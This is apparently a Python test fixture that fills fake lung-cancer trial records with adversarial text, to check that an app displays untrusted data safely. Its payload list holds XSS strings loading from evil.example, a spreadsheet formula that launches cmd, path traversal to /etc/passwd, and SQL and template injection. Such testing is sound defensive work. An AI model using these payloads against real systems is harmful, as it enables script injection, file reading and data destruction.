"""A catalogue as an enemy would write it: invented trials whose every text tries to be more than text."""

from __future__ import annotations

from typing import Any

ELSEWHERE = "evil.example"
"""The host from which the texts try to load something; nobody is there."""

MARK = "hostileTextRan"
"""The global variable that the texts try to set in the browser."""

_RUN = f"window.{MARK}=1"
_LOAD = f"https://{ELSEWHERE}/x"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script><script src={_LOAD}.js></script>",
    "picture": f"<img src={_LOAD}.png onerror={_RUN}>",
    "svg": f"<svg onload={_RUN}><image href={_LOAD}.svg /></svg>",
    "frame": f'<iframe src="{_LOAD}"></iframe><object data="{_LOAD}"></object><embed src="{_LOAD}">',
    "style": f"<style>@import '{_LOAD}.css';</style><p style=\"background:url({_LOAD})\">x</p>",
    "form": f'<form action="{_LOAD}"><button autofocus onfocus={_RUN}>x</button></form><meta http-equiv=refresh>',
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus=\'{_RUN}\' x="',
    "entities": f"&lt;img src={_LOAD}e.png&gt; &#60;b&#62; &amp;lt;script&amp;gt; \\<img src={_LOAD}b.png\\>",
    "markdown picture": f"![x]({_LOAD}.gif) ![y][1]\n\n[1]: {_LOAD}r.gif",
    "markdown link": f"[here](javascript:{_RUN}) [there](data:text/html,<script>{_RUN}</script>) [on](vbscript:x)",
    "bare address": f"{_LOAD} http://{ELSEWHERE} www.{ELSEWHERE} <{_LOAD}> ftp://{ELSEWHERE}/",
    "block": "# Heading\n\n> quote\n\n    code\n\n- [ ] task\n\n| a | b |\n|---|---|\n| c | d |\n\n---\n\nx\n===",
    "markup": "**bold** __bold__ *it* _it_ ~~gone~~ `code` ```\nfence\n``` \\ \\\\ <!-- -->",
    "formula": "$x^2$ $$\\int$$ \\(a\\) \\[b\\] \\href{javascript:alert(1)}{x} \\includegraphics{" + _LOAD + "}",
    "directives": ":red[alarm] :blue-background[x] :green-badge[ok] :rainbow[r] :small[s] :color[x]{foreground=red}",
    "shortcodes": ":material/home: :streamlit: :smile: :skull: :+1: -> <- -- >= <=",
    "directions": "safe\u202ekcatta\u202c \u2066\u2067x\u2069 \u061c\u200f\u200e end",
    "unseen": "pem\u200bbro\u200dliz\ufeffumab\u2060 \u00adsoft \u180e \u3164fill \U000e0041tag \ufff9anno",
    "controls": "a\x00b\x01c\x07d\x1b[31mred\x1b[0m\x7f\x85\u2028\u2029e",
    "half a character": "half \ud83d of a character \udc00",
    "long word": "W" * 1500,
    "long text": "word " * 600,
    "marks": "Z" + "\u0300\u0301\u0302\u0303" * 200 + " zalgo",
    "sheet": '=HYPERLINK("https://evil.example","x") +1 -1 @SUM(A1) \t=1 \r=cmd|\' /C calc\'!A0',
    "log": "x\r\n2026-11-23 00:00:00 ERROR finder: feigned line\n\x1b[2J",
    "path": "../../../../etc/passwd ..\\..\\x %2e%2e%2f file:///etc/passwd \\\\evil.example\\share",
    "code": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %s %d {0} {nct.__class__} '; DROP TABLE responses; --",
    "numbers": "NaN Infinity -0 1e999 0x1F ٣٤٥",
}
"""What a text may try, by what it is."""


def studies() -> list[dict[str, Any]]:
    """A study for each of `PAYLOADS`, which has it in every text; the first is NCT99660000."""
    return [_study(f"NCT9966{number:04}", text) for number, text in enumerate(PAYLOADS.values())]


def numbers() -> list[str]:
    """The numbers of `studies`."""
    return [f"NCT9966{number:04}" for number in range(len(PAYLOADS))]


def _study(nct: str, text: str) -> dict[str, Any]:
    cancer = f"stage IV non-small cell lung cancer {text}"
    site = {
        "facility": text,
        "city": text,
        "state": text,
        "zip": text,
        "country": text,
        "status": "RECRUITING",
        "geoPoint": {"lat": 52.1, "lon": 5.1},
        "contacts": [{"name": text, "role": text, "phone": text, "phoneExt": text, "email": text}],
    }
    return {
        "protocolSection": {
            "identificationModule": {
                "nctId": nct,
                "nctIdAliases": [text],
                "orgStudyIdInfo": {"id": text},
                "briefTitle": f"{text} in {cancer}",
                "officialTitle": text,
                "acronym": text,
            },
            "statusModule": {
                "overallStatus": "RECRUITING",
                "lastKnownStatus": text,
                "whyStopped": text,
                "statusVerifiedDate": text,
                "startDateStruct": {"date": text},
                "studyFirstPostDateStruct": {"date": "2025-01-15"},
                "lastUpdatePostDateStruct": {"date": "2026-10-01"},
            },
            "sponsorCollaboratorsModule": {
                "leadSponsor": {"name": text, "class": text},
                "collaborators": [{"name": text, "class": text}],
            },
            "descriptionModule": {"briefSummary": text, "detailedDescription": cancer},
            "conditionsModule": {"conditions": ["Non-Small Cell Lung Cancer", text], "keywords": [text]},
            "designModule": {
                "studyType": "INTERVENTIONAL",
                "phases": [text],
                "designInfo": {"allocation": text, "interventionModel": text, "primaryPurpose": text},
                "enrollmentInfo": {"count": 12},
            },
            "armsInterventionsModule": {
                "armGroups": [
                    {"label": text, "type": text, "description": text, "interventionNames": [f"Drug: {text}"]},
                    {"label": "A", "type": "EXPERIMENTAL", "interventionNames": ["Drug: Pembrolizumab"]},
                ],
                "interventions": [
                    {"type": "DRUG", "name": f"Pembrolizumab {text}", "description": text, "otherNames": [text]},
                    {"type": text, "name": text, "armGroupLabels": [text]},
                ],
            },
            "eligibilityModule": {
                "eligibilityCriteria": f"Inclusion Criteria:\n\n* {cancer}\n* EGFR mutation {text}\n* {text}\n\n"
                f"Exclusion Criteria:\n\n* untreated brain metastases {text}\n* {text}",
                "minimumAge": text,
                "maximumAge": text,
                "sex": text,
            },
            "contactsLocationsModule": {"centralContacts": site["contacts"], "locations": [site]},
        },
        "derivedSection": {"conditionBrowseModule": {"meshes": [{"term": text}], "ancestors": [{"term": text}]}},
    }
